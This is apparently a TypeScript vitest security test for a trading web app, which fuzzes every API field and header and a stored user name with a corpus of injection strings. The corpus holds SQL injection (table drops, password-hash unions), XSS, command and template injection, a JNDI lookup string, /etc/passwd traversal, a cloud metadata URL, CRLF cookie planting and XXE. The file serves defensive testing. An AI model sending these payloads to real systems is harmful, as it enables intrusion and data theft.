import { afterAll, beforeAll, expect, test } from 'vitest';
import { isShort } from '../../../scripts/test/draw.mjs';
import { createTestApp, type TestApp } from '../support/app.ts';
import type { TestBrowser } from '../support/browser.ts';
import { drawRoutes } from '../support/draw-routes.ts';
import { fieldsOf, requestWith } from '../support/samples.ts';
import { placement } from '../support/trading-fixture.ts';

/** Texts and values that mean something to some interpreter, and none of which may mean anything to us. */
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: they are meant literally
const CORPUS: readonly unknown[] = [
	// SQL
	"' or '1'='1",
	"'; drop table app.users; --",
	'1); update app.accounts set balance = 1; --',
	'1 union select password_hash from users',
	"\\'; select pg_sleep(60); --",
	'$$; select 1; $$',
	"%' or name like '%",
	'$1',
	// HTML and scripts
	'<script>alert(1)</script>',
	'"><img src=x onerror=alert(1)>',
	'javascript:alert(1)',
	"'-alert(1)-'",
	// Templates, shells, formats, lookups
	'{{7*7}}',
	'${7*7}',
	'<%= 7*7 %>',
	'#{7*7}',
	'$(id)',
	'`id`',
	'; cat /etc/passwd',
	'| id',
	'%s%n%x',
	'${jndi:ldap://a.example/x}',
	// Paths and addresses
	'../../../../etc/passwd',
	'..%2f..%2fetc%2fpasswd',
	'file:///etc/passwd',
	'http://169.254.169.254/latest/meta-data/',
	// Headers, spreadsheets, directories, markup
	'a\r\nSet-Cookie: session=planted',
	'%0d%0aSet-Cookie:%20session=planted',
	'=1+1',
	'*)(uid=*))(|(uid=*',
	'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
	// Texts that are hardly texts
	'\0',
	'a\0b',
	'\ud800',
	'\u202eevil',
	'\u200b',
	'\ufeff',
	'𝕬'.repeat(300),
	'A'.repeat(2_000),
	' '.repeat(500),
	// Other kinds, and operators of other databases
	{ $gt: '' },
	{ $ne: null },
	[],
	['a'],
	[[]],
	{},
	null,
	true,
	0,
	-1,
	1e308,
	'NaN',
	'__proto__',
	'constructor',
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: they are meant literally

const UNLIMITED = Object.fromEntries(
	['GENERAL', 'LISTS', 'PLACING', 'MESSAGES', 'REGISTRATIONS', 'ADDRESS', 'WRONG_PASSWORDS'].map((name) => [
		`LIMIT_${name}`,
		'1000000000',
	]),
);

let app: TestApp;
let attacker: TestBrowser;
let bystander: TestBrowser;
beforeAll(async () => {
	app = await createTestApp(UNLIMITED);
	attacker = await app.browser();
	bystander = await app.browser();
	await attacker.join();
	await bystander.join();
	await app.market.tick(1, Date.now(), 1_000n);
	expect((await bystander.call('POST', '/api/trades', placement({ expiry: { duration: 3_600 } }))).status).toBe(201);
});
afterAll(() => app.close());

/** Everything that belongs to the bystander or to no user. */
async function lookAround(): Promise<unknown> {
	const [user, trades, sessions] = await Promise.all(
		['/api/user', '/api/trades', '/api/settings/sign-ins'].map(
			async (path) => (await bystander.call('GET', path)).body,
		),
	);
	const { rows } = await app.db.owner.query(
		`select (select count(*) from pg_tables where schemaname in ('app', 'jobs')) tables, (select count(*) from assets) assets,
			(select sum(balance) from accounts where user_id is not null and currency <> 'DEMO_USD') real,
			(select string_agg(role, ',' order by id) from users where role <> 'user') staff`,
	);
	// An asset opens and closes by the clock, not by the attack.
	const { default_pair: _, ...bare } = user;
	return { user: bare, trades, sessions, rows };
}

test('no text in any field of any call is interpreted', { timeout: 600_000 }, async () => {
	const before = await lookAround();
	let tried = 0;
	for (const { endpoint } of drawRoutes(app.routes)) {
		for (const field of fieldsOf(endpoint)) {
			// Path and query carry texts only.
			const values = field.part === 'body' ? CORPUS : CORPUS.filter((value) => typeof value === 'string');
			for (const value of values) {
				if (field.part !== 'body' && !String(value).isWellFormed()) continue;
				const { url, payload } = requestWith(endpoint, field, value);
				const answer = await attacker.call(endpoint.method, url, payload);
				const what = `${endpoint.name} ${field.path.join('.')} ${JSON.stringify(value)?.slice(0, 60)}`;
				expect(answer.status, what).toBeLessThan(500);
				if (answer.body !== undefined)
					expect(answer.headers['content-type'], what).toBe('application/json; charset=utf-8');
				expect(JSON.stringify(answer.cookies), what).not.toContain('planted');
				tried++;
				// A call that the caller may not make reads none of its values: others would be refused alike.
				if (answer.body?.code === 'http.forbidden') break;
			}
		}
	}
	expect(tried).toBeGreaterThan(isShort() ? 150 : 1_500);
	expect(await lookAround()).toEqual(before);
	expect((await attacker.call('GET', '/api/user')).status).toBe(200);
});

test('a stored text is returned as it was typed', async () => {
	for (const name of CORPUS.filter((value) => typeof value === 'string')) {
		const browser = await app.browser();
		const { status, body } = await browser.register({ name });
		if (status === 201) expect(body.name).toBe(name.trim());
		else
			expect([status, body.code], JSON.stringify(name.slice(0, 60))).toEqual(
				/\0/.test(name) || !name.isWellFormed() ? [400, 'http.malformed'] : [422, 'http.invalid'],
			);
	}
});

test('headers are texts as well', async () => {
	for (const value of CORPUS.filter((each) => typeof each === 'string' && /^[\x20-\x7e]+$/.test(each)) as string[]) {
		for (const name of [
			'user-agent',
			'accept-language',
			'x-forwarded-for',
			'cookie',
			'authorization',
			'x-xsrf-token',
			'origin',
			'referer',
			'host',
		]) {
			const answer = await app.http.inject({ url: '/api/user', headers: { [name]: value } });
			expect([answer.statusCode, answer.json().code], `${name}: ${value}`).toEqual([401, 'http.signed_out']);
		}
	}
});
